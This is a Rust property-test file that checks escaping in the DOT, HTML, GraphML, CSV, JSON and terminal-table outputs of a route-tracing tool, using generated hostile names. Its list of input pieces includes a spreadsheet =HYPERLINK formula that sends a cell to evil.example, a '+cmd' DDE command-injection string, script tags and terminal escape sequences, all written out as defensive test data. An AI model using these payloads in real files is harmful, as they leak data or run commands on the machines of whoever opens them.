//! Property tests for the escaping of every output format, each checked by
//! reading the output back the way its consumer does, on arbitrary strings
//! built from what breaks formats: C0/C1 controls, ESC sequences, bidi
//! overrides and isolates, invisible characters, quotes, `<>&`, CR and LF,
//! backslashes (Graphviz's `\N`), spreadsheet formulas, and any character.
//!
//! | format | oracle |
//! |---|---|
//! | DOT | Graphviz itself (`dot -Tjson0`) draws exactly the nodes and edges of the same diagram with plain names; a label decodes back to the name as the terminal guard shows it |
//! | HTML | an XML parser reads the escaped text as element text and attribute: it is the name as shown, with no raw markup |
//! | GraphML | an XML parser (roxmltree) reads back every name and id exactly (C0 controls XML cannot carry shown as `\u{..}`); edges name existing nodes |
//! | CSV | the csv crate reads back every cell: nothing lost, none starts a formula |
//! | table | no C0/C1/bidi/invisible character reaches the terminal, however writes are split; a field cannot start a line |
//! | JSON | exact round trip of what the case file stores (end to end, below) |
//!
//! The end-to-end property ingests a bundle whose route parties carry
//! generated names and checks routes, assess, export and report outputs.

mod common;

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;

use divtrace::export::diagram::{Diagram, Edge, Node, Part};
use divtrace::export::{dot, graphml, report};
use divtrace::store::evidence::{EntityRecord, Evidence, RelationRecord, ShipmentRecord};
use divtrace::text::csv_out::CsvOut;
use divtrace::text::safe::{is_plain_number, is_unsafe_for_terminal, term, term_lines, TermWriter};
use proptest::prelude::*;

/// Pieces that break one format or another.
const PIECES: &[&str] = &[
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\"",
    "'",
    "<",
    ">",
    "&",
    "&amp;",
    "&#x41;",
    "\\",
    "\\N",
    "\\G",
    "\\l",
    "{",
    "}",
    "[",
    "]",
    "|",
    ";",
    ",",
    " -> ",
    "--",
    "<BR/>",
    "]]>",
    "<!--",
    "<script>",
    "\u{1b}[31m",
    "\u{1b}]0;t\u{7}",
    "\u{7}",
    "\u{8}",
    "\u{0}",
    "\u{b}",
    "\u{c}",
    "\u{7f}",
    "\u{85}",
    "\u{9b}2J",
    "\u{202e}",
    "\u{202a}",
    "\u{2066}",
    "\u{200b}",
    "\u{200e}",
    "\u{feff}",
    "\u{2028}",
    "\u{e0041}",
    "\u{200d}",
    "\u{fffd}",
    "Ж",
    "ş",
    "東",
    "ي",
    "👩\u{200d}🔬",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"c\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "1.5",
    " ",
];

/// A hostile string: pieces, arbitrary characters and plain words, in any order.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(PIECES).prop_map(String::from),
        2 => any::<char>().prop_map(String::from),
        1 => "[A-Za-z0-9 ]{1,8}",
    ];
    prop::collection::vec(piece, 0..14).prop_map(|v| v.concat())
}

/// `\u{..}` escapes (as `text::safe` writes them) decoded back.
fn unescape_visible(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(i) = rest.find("\\u{") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 3..];
        match after.find('}').and_then(|j| u32::from_str_radix(&after[..j], 16).ok().and_then(char::from_u32).map(|c| (j, c))) {
            Some((j, c)) => {
                out.push(c);
                rest = &after[j + 1..];
            }
            None => {
                out.push_str("\\u{");
                rest = after;
            }
        }
    }
    out + rest
}

// ---- table ----

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn table_fields_reach_the_terminal_inert(s in hostile()) {
        let t = term(&s);
        prop_assert!(!t.chars().any(is_unsafe_for_terminal), "{:?}", t);
        prop_assert!(!t.contains('\n'), "a field cannot start a forged table line: {:?}", t);
        // Shown, not dropped: without a literal backslash in the name the escapes decode back to it.
        if !s.contains('\\') {
            prop_assert_eq!(unescape_visible(&t), s);
        }
    }

    #[test]
    fn table_output_is_inert_however_writes_are_split(s in hostile(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..6)) {
        let bytes = s.as_bytes();
        let mut at: Vec<usize> = cuts.iter().map(|c| c.index(bytes.len() + 1)).collect();
        at.sort_unstable();
        let mut out = Vec::new();
        {
            let mut w = TermWriter::new(&mut out);
            let mut from = 0;
            for &to in at.iter().chain(std::iter::once(&bytes.len())) {
                w.write_all(&bytes[from..to]).unwrap();
                from = to;
            }
            w.flush().unwrap();
        }
        let text = String::from_utf8(out).expect("the guard writes UTF-8");
        prop_assert!(!text.chars().any(|c| c != '\n' && is_unsafe_for_terminal(c)), "{:?}", text);
        let want = term_lines(&s).into_owned();
        prop_assert_eq!(text, want);
    }
}

// ---- CSV ----

fn assert_csv_cells(text: &str, want: &[Vec<String>]) -> Result<(), TestCaseError> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let got: Vec<Vec<String>> = r.records().map(|rec| rec.unwrap().iter().map(String::from).collect()).collect();
    prop_assert_eq!(got.len(), want.len(), "rows:\n{}", text);
    for (g, w) in got.iter().zip(want) {
        prop_assert_eq!(g.len(), w.len(), "fields:\n{}", text);
        for (cell, orig) in g.iter().zip(w) {
            let first = cell.chars().next();
            prop_assert!(
                is_plain_number(cell) || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "a spreadsheet would evaluate {:?}",
                cell
            );
            prop_assert!(cell == orig || cell.strip_prefix('\'') == Some(orig.as_str()), "{:?} lost text of {:?}", cell, orig);
        }
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn csv_reads_back_with_no_formula_and_nothing_lost(rows in prop::collection::vec(prop::collection::vec(hostile(), 1..5), 1..6)) {
        // Every row as wide as the first (a CSV table); "" is a field too.
        let width = rows[0].len();
        let rows: Vec<Vec<String>> = rows.into_iter().map(|mut r| { r.resize(width, String::new()); r }).collect();
        // A header first, as every CSV divtrace writes has (a reader drops a
        // byte-order mark at the very start of the file, so a first data cell
        // starting with U+FEFF would read back shorter).
        let header: Vec<String> = (0..width).map(|i| format!("c{i}")).collect();
        let mut w = CsvOut::new(Vec::new());
        w.write_record(&header).unwrap();
        for r in &rows {
            w.write_record(r).unwrap();
        }
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        // A row of one empty field is written as `""`, so it reads back too.
        let want: Vec<Vec<String>> = std::iter::once(header).chain(rows).collect();
        assert_csv_cells(&text, &want)?;
    }
}

// ---- HTML ----

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn html_text_and_attributes_read_back_as_shown(s in hostile()) {
        let e = report::esc(&s);
        prop_assert!(!e.contains(['<', '>', '"', '\'']), "raw markup in {:?}", e);
        prop_assert!(!e.chars().any(is_unsafe_for_terminal), "{:?}", e);
        let page = format!("<td title=\"{e}\" class='x'>{e}</td>");
        let doc = roxmltree::Document::parse(&page).map_err(|err| TestCaseError::fail(format!("{err}: {page}")))?;
        let td = doc.root_element();
        prop_assert_eq!(td.children().count(), usize::from(!e.is_empty()), "markup from the data: {}", page);
        let shown = term(&s);
        prop_assert_eq!(td.text().unwrap_or(""), shown.as_ref());
        prop_assert_eq!(td.attribute("title"), Some(shown.as_ref()));
        prop_assert_eq!(td.attributes().count(), 2);
    }
}

// ---- DOT ----

/// The HTML-label text of [`dot::html`] decoded as Graphviz reads it.
fn decode_dot_label(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(c) = rest.chars().next() {
        let (decoded, len) = if rest.starts_with("<BR/>") {
            ("\n".to_string(), 5)
        } else if rest.starts_with("\\\\") {
            ("\\".to_string(), 2)
        } else if c == '&' {
            let end = rest.find(';').expect("an entity ends with ;");
            let ent = &rest[1..end];
            let ch = match ent {
                "amp" => '&',
                "lt" => '<',
                "gt" => '>',
                "quot" => '"',
                "#39" => '\'',
                n => char::from_u32(n.strip_prefix('#').expect("numeric entity").parse().unwrap()).unwrap(),
            };
            (ch.to_string(), end + 1)
        } else {
            (c.to_string(), c.len_utf8())
        };
        out.push_str(&decoded);
        rest = &rest[len..];
    }
    out
}

fn diagram(names: &[String], detail: &str) -> Diagram {
    let parts = [Part::Manufacturer, Part::Intermediary, Part::EndUser, Part::Importer];
    let nodes: Vec<Node> = names
        .iter()
        .enumerate()
        .map(|(i, n)| Node {
            key: format!("k{i}"),
            name: n.clone(),
            details: vec![detail.to_string()],
            country: Some(["US", "TR", "RU", "AE"][i % 4].into()),
            part: parts[i % 4],
            lists: vec![detail.to_string()],
            band: None,
            latin: None,
            link: None,
        })
        .collect();
    let edges = (1..names.len())
        .map(|i| Edge {
            from: i - 1,
            to: i,
            hs: "854231".into(),
            chpl_tier: Some("1".into()),
            first_date: "2022-05-02".into(),
            last_date: "2022-06-02".into(),
            shipments: 2,
            mirrored: 0,
            value_usd: 1000.0,
            declarations: vec![detail.to_string(), "D2".into()],
            emphasis: i == 1,
            link: None,
        })
        .collect();
    Diagram { title: detail.to_string(), subtitle: vec![detail.to_string()], nodes, edges, notes: vec![detail.to_string()] }
}

/// Graphviz's own reading of a DOT text: (objects, edges), or its error.
fn graphviz_shape(dot_text: &str) -> Result<(usize, usize), String> {
    let mut child = std::process::Command::new("dot")
        .arg("-Tjson0")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("Graphviz `dot` is needed by this test (.ci/setup installs it)");
    child.stdin.take().unwrap().write_all(dot_text.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    if !out.status.success() || !out.stderr.is_empty() {
        return Err(String::from_utf8_lossy(&out.stderr).into_owned());
    }
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).map_err(|e| e.to_string())?;
    let n = |k: &str| v[k].as_array().map_or(0, Vec::len);
    Ok((n("objects"), n("edges")))
}

/// Names the property test below once found Graphviz refusing: a text run
/// that starts with `]` is a syntax error in an HTML-like label.
#[test]
fn graphviz_draws_names_that_start_with_a_bracket() {
    let names: Vec<String> = ["]", "]]", "a]", "]>x"].iter().map(|s| s.to_string()).collect();
    let plain: Vec<String> = (0..names.len()).map(|i| format!("party {i}")).collect();
    let want = graphviz_shape(&dot::to_dot(&diagram(&plain, "detail"))).expect("the plain diagram draws");
    let text = dot::to_dot(&diagram(&names, "]"));
    assert_eq!(graphviz_shape(&text), Ok(want), "{text}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn dot_labels_decode_to_the_name_as_shown(s in hostile()) {
        let h = dot::html(&s);
        // Only our own line breaks are markup; nothing can close the label or the attribute.
        let bare = h.replace("<BR/>", "");
        prop_assert!(!bare.contains(['<', '>', '"', '\'']), "{:?}", h);
        prop_assert!(!h.chars().any(is_unsafe_for_terminal), "{:?}", h);
        prop_assert_eq!(decode_dot_label(&h), term_lines(&s).into_owned());
    }
}

proptest! {
    // Each case runs Graphviz once.
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn graphviz_draws_the_same_graph_whatever_the_names(names in prop::collection::vec(hostile(), 2..5), detail in hostile()) {
        let plain: Vec<String> = (0..names.len()).map(|i| format!("party {i}")).collect();
        let want = graphviz_shape(&dot::to_dot(&diagram(&plain, "detail"))).expect("the plain diagram draws");
        let text = dot::to_dot(&diagram(&names, &detail));
        prop_assert!(!text.chars().any(|c| c != '\n' && is_unsafe_for_terminal(c)), "raw control in the DOT");
        let got = graphviz_shape(&text).map_err(|e| TestCaseError::fail(format!("Graphviz refused the DOT: {e}\n{text}")))?;
        prop_assert_eq!(got, want, "hostile names changed the drawn graph:\n{}", text);
    }
}

// ---- GraphML ----

/// What GraphML can carry of `s`: everything exactly, except the C0
/// controls XML 1.0 forbids even as references, which are shown as `\u{..}`.
fn xml_expected(s: &str) -> String {
    s.chars().map(|c| if c < ' ' && !matches!(c, '\t' | '\n' | '\r') { format!("\\u{{{:x}}}", c as u32) } else { c.to_string() }).collect()
}

fn entity(row: i64, id: String, name: String, extra: &str) -> EntityRecord {
    EntityRecord {
        row,
        id,
        scope: "case".into(),
        name,
        kind: "company".into(),
        country: Some("TR".into()),
        address: Some(extra.to_string()),
        incorporated: None,
        roles: vec!["trader".into()],
        aliases: vec![extra.to_string()],
        identifiers: vec![("vkn".into(), extra.to_string())],
        lists: vec![],
        cluster: row,
        source: Some(extra.to_string()),
        source_file: format!("entities{extra}.csv"),
        source_line: row + 1,
    }
}

fn evidence(names: &[String], extra: &str) -> Evidence {
    let mut ev = Evidence::default();
    for (i, n) in names.iter().enumerate() {
        let row = i as i64 + 1;
        // Ids must be unique; the index first keeps them so whatever follows.
        ev.entities.insert(row, entity(row, format!("{i}{n}"), n.clone(), extra));
    }
    for i in 1..names.len() {
        let row = i as i64;
        ev.shipments.insert(
            row,
            ShipmentRecord {
                row,
                id: format!("S{i}{extra}"),
                date: "2022-05-02".into(),
                shipper: row,
                consignee: row + 1,
                hs: "854231".into(),
                description: Some(extra.to_string()),
                manufacturer: Some(extra.to_string()),
                origin_country: Some("US".into()),
                from_country: None,
                to_country: None,
                quantity: None,
                unit: None,
                value_usd: Some(1000.0),
                weight_kg: None,
                source: Some(extra.to_string()),
                source_file: "shipments.csv".into(),
                source_line: row + 1,
                source_sha256: String::new(),
            },
        );
    }
    ev.relations.push(RelationRecord {
        from: 1,
        to: 2,
        kind: divtrace::model::RelationKind::Agent,
        share: Some(0.5),
        start: None,
        end: None,
        source: Some(extra.to_string()),
        source_file: format!("relations{extra}.csv"),
        source_line: 2,
    });
    ev
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn graphml_reads_back_exactly(names in prop::collection::vec(hostile(), 2..5), extra in hostile()) {
        let ev = evidence(&names, &extra);
        let text = graphml::to_graphml(&ev);
        prop_assert!(!text.chars().any(|c| c != '\n' && is_unsafe_for_terminal(c)), "raw control, CR or bidi character in the GraphML");
        let doc = roxmltree::Document::parse(&text).map_err(|e| TestCaseError::fail(format!("not XML: {e}\n{text}")))?;
        let data = |n: roxmltree::Node, key: &str| {
            n.children().find(|c| c.has_tag_name("data") && c.attribute("key") == Some(key)).map(|c| c.text().unwrap_or("").to_string())
        };
        let nodes: Vec<roxmltree::Node> = doc.descendants().filter(|n| n.has_tag_name("node")).collect();
        prop_assert_eq!(nodes.len(), names.len());
        let mut ids = BTreeMap::new();
        for (node, e) in nodes.iter().zip(ev.entities.values()) {
            prop_assert_eq!(node.attribute("id").map(String::from), Some(xml_expected(&e.id)));
            prop_assert_eq!(data(*node, "n_name"), (!e.name.is_empty()).then(|| xml_expected(&e.name)));
            prop_assert_eq!(data(*node, "n_source_file"), Some(xml_expected(&e.source_file)));
            ids.insert(node.attribute("id").unwrap().to_string(), ());
        }
        let edges: Vec<roxmltree::Node> = doc.descendants().filter(|n| n.has_tag_name("edge")).collect();
        prop_assert_eq!(edges.len(), ev.shipments.len() + ev.relations.len());
        for e in &edges {
            prop_assert!(ids.contains_key(e.attribute("source").unwrap()) && ids.contains_key(e.attribute("target").unwrap()));
        }
        let last = edges.last().unwrap();
        prop_assert_eq!(data(*last, "e_source_file"), Some(xml_expected(&ev.relations[0].source_file)));
        for (edge, s) in edges.iter().zip(ev.shipments.values()) {
            prop_assert_eq!(data(*edge, "e_shipment"), Some(xml_expected(&s.id)));
            prop_assert_eq!(data(*edge, "e_declaration"), s.source.as_deref().map(xml_expected));
        }
    }
}

// ---- end to end: ingest, then every output format of the tool ----

fn csv_quote(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// The small bundle with `names` on the parties of its US→RU route.
fn hostile_bundle(dir: &Path, names: &[String; 4]) -> std::path::PathBuf {
    let bundle = dir.join("bundle");
    common::copy_dir(&common::fixture("bundles/small"), &bundle);
    let ents = std::fs::read_to_string(bundle.join("entities.csv")).unwrap();
    let mut out = String::new();
    for line in ents.lines() {
        let (id, rest) = line.split_once(',').unwrap();
        let new = match ["US1", "TR1", "AE1", "RU1"].iter().position(|x| *x == id) {
            Some(i) => {
                // The name is the second field; the rest of the line stays.
                let tail = match rest.strip_prefix('"') {
                    Some(q) => &q[q.find('"').unwrap() + 1..],
                    None => &rest[rest.find(',').unwrap()..],
                };
                format!("{id},{}{tail}", csv_quote(&names[i]))
            }
            None => line.to_string(),
        };
        out += &new;
        out.push('\n');
    }
    std::fs::write(bundle.join("entities.csv"), out).unwrap();
    bundle
}

fn run(args: &[&std::ffi::OsStr]) -> String {
    common::divtrace(args).ok().stdout
}

/// Tag names of an HTML page in order, outside the embedded SVG (Graphviz lays
/// out text lines of its own there; the SVG is checked as XML instead).
fn tags_outside_svg(page: &str) -> Vec<String> {
    let mut v = Vec::new();
    let mut rest = page;
    while let Some(i) = rest.find('<') {
        rest = &rest[i + 1..];
        if rest.starts_with("svg") {
            let end = rest.find("</svg>").expect("the SVG ends");
            rest = &rest[end + 6..];
            v.push("svg".to_string());
            continue;
        }
        // A name in another script (or with letters outside ASCII) has its Latin
        // form beside it, a plain one has none: that span is not markup from the data.
        if rest.starts_with("span class=\"latin\">") {
            let end = rest.find("</span>").expect("the Latin form ends");
            rest = &rest[end + 7..];
            continue;
        }
        let name: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '/' || *c == '!').collect();
        v.push(name);
    }
    v
}

fn os(s: &str) -> &std::ffi::OsStr {
    s.as_ref()
}

const ROUTE: [&str; 4] = ["--from", "country:US", "--to", "country:RU"];

/// A name the bundle reader keeps as a name: generated text with a letter in
/// front (an empty name is refused) and no NUL (refused with its location).
fn party_name() -> impl Strategy<Value = String> {
    hostile().prop_map(|s| format!("N{}", s.replace('\0', "")))
}

/// Everything the tool writes for one case, checked against the case's own names.
fn check_case(dir: &Path, names: &[String; 4]) -> Result<Vec<String>, TestCaseError> {
    let bundle = hostile_bundle(dir, names);
    let case = dir.join("case.db");
    common::divtrace([os("ingest"), bundle.as_os_str(), os("--case"), case.as_os_str(), os("-q")]).ok();
    let conn = rusqlite::Connection::open(&case).unwrap();
    let stored: BTreeMap<String, String> = conn
        .prepare("SELECT input_id, name FROM entity")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    drop(conn);
    let c = case.as_os_str();
    // JSON: exact.
    let json: serde_json::Value =
        serde_json::from_str(&run(&[&[os("routes"), os("--case"), c], ROUTE.map(os).as_slice(), &[os("--format"), os("json")]].concat()))
            .unwrap();
    let routes = json["routes"].as_array().unwrap();
    prop_assert!(!routes.is_empty(), "the route survives hostile names");
    for hop in routes.iter().flat_map(|r| r["hops"].as_array().unwrap()) {
        for side in ["shipper", "consignee"] {
            let (id, name) = (hop[side].as_str().unwrap(), hop[format!("{side}_name")].as_str().unwrap());
            prop_assert_eq!(Some(name), stored.get(id).map(String::as_str), "JSON changed the name of {}", id);
        }
    }
    let assess: serde_json::Value =
        serde_json::from_str(&run(&[os("assess"), os("--case"), c, os("--all"), os("--format"), os("json")])).unwrap();
    for a in assess["assessments"].as_array().unwrap() {
        let id = a["entity"].as_str().unwrap();
        prop_assert_eq!(a["name"].as_str(), stored.get(id).map(String::as_str));
    }
    // CSV: no formula, nothing lost (each name appears whole in some cell).
    for args in [
        [&[os("routes"), os("--case"), c], ROUTE.map(os).as_slice(), &[os("--format"), os("csv")]].concat(),
        [&[os("assess"), os("--case"), c], &[os("--all"), os("--format"), os("csv")][..]].concat(),
    ] {
        let text = run(&args);
        let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
        let cells: Vec<String> = r.records().flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
        for cell in &cells {
            let first = cell.chars().next();
            prop_assert!(is_plain_number(cell) || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "formula cell {:?}", cell);
        }
        for n in stored.values().filter(|n| names.contains(n)) {
            prop_assert!(cells.iter().any(|x| x == n || x.strip_prefix('\'') == Some(n)), "{:?} not whole in the CSV", n);
        }
    }
    // Tables: inert.
    for args in [
        [&[os("routes"), os("--case"), c], ROUTE.map(os).as_slice()].concat(),
        vec![os("assess"), os("--case"), c, os("--all")],
        [&[os("hubs"), os("--case"), c], ROUTE.map(os).as_slice()].concat(),
    ] {
        let text = run(&args);
        prop_assert!(!text.chars().any(|ch| ch != '\n' && is_unsafe_for_terminal(ch)), "raw control in the table:\n{}", text);
    }
    // GraphML: an XML parser reads every stored name back.
    let gml = dir.join("out.graphml");
    run(&[&[os("export"), os("--case"), c], ROUTE.map(os).as_slice(), &[os("--format"), os("graphml"), os("--out"), gml.as_os_str()]]
        .concat());
    let text = std::fs::read_to_string(&gml).unwrap();
    let doc = roxmltree::Document::parse(&text).map_err(|e| TestCaseError::fail(format!("GraphML is not XML: {e}")))?;
    for node in doc.descendants().filter(|n| n.has_tag_name("node")) {
        let id = node.attribute("id").unwrap();
        let name = node.children().find(|d| d.attribute("key") == Some("n_name")).and_then(|d| d.text());
        prop_assert_eq!(name.map(String::from), stored.get(id).map(|n| xml_expected(n)));
    }
    // Report: the page has the structure of a plain report; the SVG is XML; nothing raw.
    let rep = dir.join("report");
    run(&[&[os("report"), os("--case"), c], ROUTE.map(os).as_slice(), &[os("--out"), rep.as_os_str()]].concat());
    let page = std::fs::read_to_string(rep.join("report.html")).unwrap();
    prop_assert!(!page.chars().any(|ch| !matches!(ch, '\n' | '\t') && is_unsafe_for_terminal(ch)), "raw control in report.html");
    if let Ok(svg) = std::fs::read_to_string(rep.join("routes.svg")) {
        let opt = roxmltree::ParsingOptions { allow_dtd: true, ..Default::default() };
        roxmltree::Document::parse_with_options(&svg, opt).map_err(|e| TestCaseError::fail(format!("routes.svg is not XML: {e}")))?;
    }
    Ok(tags_outside_svg(&page))
}

proptest! {
    // Each case ingests a bundle and runs the tool ten times.
    #![proptest_config(ProptestConfig::with_cases(10))]

    #[test]
    fn every_output_of_the_tool_stays_inert_and_exact(names in [party_name(), party_name(), party_name(), party_name()]) {
        let plain = ["Maker Inc".to_string(), "Trader Ltd".into(), "Hub FZE".into(), "Buyer OOO".into()];
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(tmp.path().join("plain")).unwrap();
        std::fs::create_dir_all(tmp.path().join("hostile")).unwrap();
        let want = check_case(&tmp.path().join("plain"), &plain)?;
        let got = check_case(&tmp.path().join("hostile"), &names)?;
        prop_assert_eq!(got, want, "hostile names changed the report's markup");
    }
}
